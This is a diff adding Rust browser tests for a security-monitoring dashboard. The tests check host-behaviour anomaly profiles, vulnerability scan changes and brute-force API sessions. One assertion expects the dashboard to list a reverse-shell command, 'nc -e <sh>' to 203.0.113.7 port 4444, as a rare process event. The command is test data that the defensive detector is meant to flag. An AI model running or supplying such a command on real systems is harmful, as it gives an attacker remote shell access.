@@ -1,0 +1,97 @@
+//! The pages of the families in a real browser: behaviour of hosts, sessions of an API, vulnerabilities.
+
+use crate::browsing::{browse, open};
+
+/// What is unusual on a host, why, and who started it, on a telephone and by what is on the page alone.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_person_finds_what_is_unusual_on_a_host_and_why() {
+    let server = open().await;
+    browse(&server, |browser, url| {
+        browser.resize(390, 844);
+        browser.go(url);
+        browser.follow("header a[href='/profiles']");
+        assert!(browser.text("main tbody tr").contains("active"), "{}", browser.text("main"));
+        browser.follow("main a[href='/profiles/usual']");
+        let rare = browser.text("#rare + .scroll tbody");
+        assert!(
+            rare.contains("nc -e <sh> 203.0.113.7 4444")
+                && rare.contains("never seen: proc.exepath, proc.pname"),
+            "{rare}"
+        );
+        assert!(!rare.contains("nginx ← systemd"), "{rare}");
+        browser.click("#rare + .scroll summary");
+        browser.wait_for(
+            "document.querySelector('#rare + .scroll tbody').innerText.includes('nginx ← systemd')",
+        );
+        let why = browser.text("#rare + .scroll details dl");
+        assert!(why.contains("/usr/bin/nc new") && why.contains("never"), "{why}");
+        // The way to it is open in the tree, and what is usual is closed.
+        let tree = browser.text(".tree");
+        assert!(
+            tree.contains("nginx") && tree.contains("nc 1 event 1 rare") && !tree.contains("backup"),
+            "{tree}"
+        );
+        browser.click(".tree details:not([open]) > summary");
+        browser.wait_for("document.querySelector('.tree').innerText.includes('backup 120 events')");
+        assert!(browser.text("#common + .scroll").contains("/usr/bin/backup | cron"));
+        assert!(browser.text("main").contains("No host tells what it saw"));
+        browser.wait_for("document.querySelector('figure.chart')?.dataset.ready === 'yes'");
+        browser.follow(".spans a[href='/profiles/usual?span=1h']");
+        assert!(browser.text(".spans [aria-current]").contains("1h"));
+        assert_eq!(browser.complaints(), Vec::<String>::new());
+    })
+    .await;
+    server.server.stop().await;
+}
+
+/// Which vulnerabilities there are, and what the last scan changed, by links alone.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_person_sees_what_the_last_scan_changed() {
+    let server = open().await;
+    browse(&server, |browser, url| {
+        browser.go(&format!("{url}/vulnerabilities"));
+        let text = browser.text("main");
+        assert!(
+            text.contains("2 open") && text.contains("Old <library>") && !text.contains("Weak cipher"),
+            "{text}"
+        );
+        // Critical: one that is known for 30 to 90 days.
+        let critical = browser.evaluate(
+            "[...document.querySelector('tbody tr').cells].map((cell) => cell.innerText).join(' ')",
+        );
+        assert_eq!(critical, "critical 1 0 0 1 0 0 0");
+        browser.follow("main a[href*='first_seen_ms']");
+        assert!(browser.text("#findings + .scroll").contains("New hole"), "{}", browser.text("main"));
+        browser.go(&format!("{url}/vulnerabilities"));
+        browser.follow("main a[href*='fixed_ms']");
+        assert!(browser.text("#findings + .scroll").contains("Weak cipher"), "{}", browser.text("main"));
+        browser.follow("#findings + .scroll a");
+        assert!(browser.text("main").contains("Update <it>."), "{}", browser.text("main"));
+        browser.go(&format!("{url}/vulnerabilities?filter=port%3D%3D"));
+        assert!(browser.text("[role=alert]").contains("filter"), "{}", browser.text("main"));
+        assert_eq!(browser.complaints(), Vec::<String>::new());
+    })
+    .await;
+    server.server.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_person_sees_who_misuses_an_api_and_why() {
+    let server = open().await;
+    browse(&server, |browser, url| {
+        browser.go(url);
+        browser.follow("header a[href='/sessions']");
+        let row = browser.text("main tbody tr");
+        assert!(
+            row.contains("client=203.0.113.7") && row.contains("brute_force"),
+            "{}",
+            browser.text("main")
+        );
+        browser.click("main tbody summary");
+        browser.wait_for("/attempts to log in/.test(document.querySelector('main tbody ol').innerText)");
+        assert!(browser.text("main").contains("No model is kept"));
+        assert_eq!(browser.complaints(), Vec::<String>::new());
+    })
+    .await;
+    server.server.stop().await;
+}
